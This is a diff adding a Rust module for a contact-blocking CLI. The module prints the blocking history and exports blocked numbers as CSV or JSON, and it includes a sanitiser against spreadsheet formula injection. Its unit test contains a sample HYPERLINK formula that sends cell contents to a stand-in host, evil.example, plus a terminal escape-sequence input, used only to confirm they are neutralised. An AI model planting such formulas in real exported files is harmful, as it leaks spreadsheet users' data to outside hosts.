@@ -1,0 +1,198 @@
+//! `history` and `export`: what the ledger holds, without the network.
+
+use std::collections::HashMap;
+use std::io::Write;
+
+use serde_json::json;
+
+use crate::cli::args::{ExportArgs, HistoryArgs};
+use crate::cli::failure::{Failure, exit, fail};
+use crate::cli::output::{JsonArray, Table};
+use crate::cli::session::Local;
+use crate::model::change::Change;
+use crate::model::number::{format_phone, phone_digits, shown_jid};
+use crate::store::ledger::{HistoryResult, KnownState};
+
+/// Actions the history prints at most.
+const HISTORY_LIMIT: usize = 1_000_000;
+
+/// `history`: the ledger's actions, newest first, with the contact's name
+/// from the saved contact list when there is one.
+pub(crate) fn history(s: Local, args: HistoryArgs) -> Result<(), Failure> {
+    let instance = match &args.instance {
+        Some(name) => Some(s.profile.instances[s.instance_index(name)?].name.clone()),
+        None => None,
+    };
+    let since = match &args.since {
+        Some(day) => Some(crate::util::dates::day_start(day).map_err(|e| fail(exit::USAGE, e))?),
+        None => None,
+    };
+    let entries = s
+        .ledger
+        .history(instance.as_deref(), since, HISTORY_LIMIT)
+        .map_err(|e| fail(exit::INTERNAL, e.to_string()))?;
+    s.tell_skipped();
+    // The names of each instance's numbers, from its saved contact list,
+    // found in one pass over it.
+    let mut names: HashMap<&str, HashMap<String, String>> = HashMap::new();
+    for inst in &s.profile.instances {
+        let jids: Vec<&str> = entries
+            .iter()
+            .filter(|e| e.instance == inst.name)
+            .map(|e| e.jid.as_str())
+            .collect();
+        if jids.is_empty() {
+            continue;
+        }
+        let path = crate::store::cache::path_for(&s.data_dir, inst.base_url.as_str(), &inst.name);
+        if let Ok(Some((store, _))) = crate::store::cache::load(&path) {
+            names.insert(inst.name.as_str(), store.names_of(jids));
+        }
+    }
+    let name_of = |instance: &str, jid: &str| names.get(instance)?.get(jid).cloned();
+    let mut json_out = args.json.then(JsonArray::stdout).transpose()?;
+    let mut table = (!args.json).then(Table::stdout);
+    for e in &entries {
+        let name = name_of(&e.instance, &e.jid);
+        let action = Change::of(e.block).verb();
+        let digits = phone_digits(&e.jid);
+        let (error, count) = match &e.result {
+            HistoryResult::Failed(why) => (Some(why.as_str()), None),
+            HistoryResult::Done(count) => (None, *count),
+            HistoryResult::Unanswered => (None, None),
+        };
+        if let Some(out) = json_out.as_mut() {
+            out.push(&json!({
+                "at": crate::util::dates::rfc3339(e.requested_at),
+                "instance": e.instance,
+                "jid": e.jid,
+                "lid": e.lid,
+                "e164": digits.map(|d| format!("+{d}")),
+                "number": shown_jid(&e.jid),
+                "name": name,
+                "action": action,
+                "result": e.result.word(),
+                "blocked_count": count,
+                "error": error,
+            }))?;
+        } else if let Some(t) = table.as_mut() {
+            t.row(&[
+                crate::util::dates::rfc3339(e.requested_at).as_str(),
+                &e.instance,
+                &shown_jid(&e.jid),
+                name.as_deref().unwrap_or("-"),
+                action,
+                e.result.word(),
+                error.unwrap_or(""),
+            ])?;
+        }
+    }
+    if let Some(out) = json_out {
+        out.finish()?;
+    }
+    if let Some(t) = table {
+        t.finish()?;
+    }
+    if entries.is_empty() && !args.json {
+        eprintln!(
+            "ryze-contacts: no action recorded{}",
+            match &args.since {
+                Some(day) => format!(" since {day}"),
+                None => String::new(),
+            }
+        );
+    }
+    Ok(())
+}
+
+/// `export`: the numbers the ledger knows as blocked, as CSV or JSON.
+pub(crate) fn export(s: Local, args: ExportArgs) -> Result<(), Failure> {
+    if let Some(name) = &args.instance {
+        s.instance_index(name)?;
+    }
+    let order = |name: &str| s.instance_index(name).unwrap_or(usize::MAX);
+    let mut rows: Vec<KnownState> = s
+        .known()?
+        .into_iter()
+        .filter(|k| k.blocked && args.instance.as_ref().is_none_or(|n| &k.instance == n))
+        .collect();
+    rows.sort_by(|a, b| (order(&a.instance), &a.jid).cmp(&(order(&b.instance), &b.jid)));
+    if args.json {
+        let mut out = JsonArray::stdout()?;
+        for k in &rows {
+            out.push(&json!({
+                "instance": k.instance,
+                "jid": k.jid,
+                "lid": k.lid,
+                "e164": phone_digits(&k.jid).map(|d| format!("+{d}")),
+                "number": phone_digits(&k.jid).map(format_phone),
+                "changed_at": crate::util::dates::rfc3339(k.changed_at),
+            }))?;
+        }
+        out.finish()?;
+        return Ok(());
+    }
+    let mut out = std::io::BufWriter::new(std::io::stdout().lock());
+    writeln!(out, "instance,jid,lid,e164,number,changed_at")?;
+    for k in rows {
+        let digits = phone_digits(&k.jid);
+        writeln!(
+            out,
+            "{},{},{},{},{},{}",
+            csv_cell(&k.instance),
+            csv_cell(&k.jid),
+            csv_cell(k.lid.as_deref().unwrap_or_default()),
+            csv_cell(&digits.map(|d| format!("+{d}")).unwrap_or_default()),
+            csv_cell(&digits.map(format_phone).unwrap_or_default()),
+            csv_cell(&crate::util::dates::rfc3339(k.changed_at))
+        )?;
+    }
+    out.flush()?;
+    Ok(())
+}
+
+/// One CSV cell, safe to open in a spreadsheet (OWASP's rules against
+/// formula injection): a cell that starts with `=`, `+`, `-`, `@`, a tab
+/// or a carriage return gets a leading `'` so it stays text, and any cell
+/// so changed, or holding a comma, quote or line break, is quoted with
+/// its quotes doubled.
+pub fn csv_cell(field: &str) -> String {
+    let formula = field.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    // No control character or escape reaches whoever opens the file.
+    let field = crate::util::sanitize::clean(field);
+    let field = if formula {
+        format!("'{field}")
+    } else {
+        field.to_string()
+    };
+    if formula || field.contains([',', '"', '\n', '\r']) {
+        format!("\"{}\"", field.replace('"', "\"\""))
+    } else {
+        field
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn csv_cells_never_run_as_formulas() {
+        assert_eq!(csv_cell("sales"), "sales");
+        assert_eq!(csv_cell("a,b"), "\"a,b\"");
+        assert_eq!(
+            csv_cell("=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")@lid"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"click\"\")@lid\""
+        );
+        for risky in ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx"] {
+            let cell = csv_cell(risky);
+            assert!(cell.starts_with("\"'"), "{risky:?} -> {cell}");
+        }
+        assert_eq!(csv_cell("+447912345678"), "\"'+447912345678\"");
+        assert_eq!(
+            csv_cell("1\x1b[2J\x07@lid"),
+            "1[2J@lid",
+            "escapes never reach the file"
+        );
+    }
+}
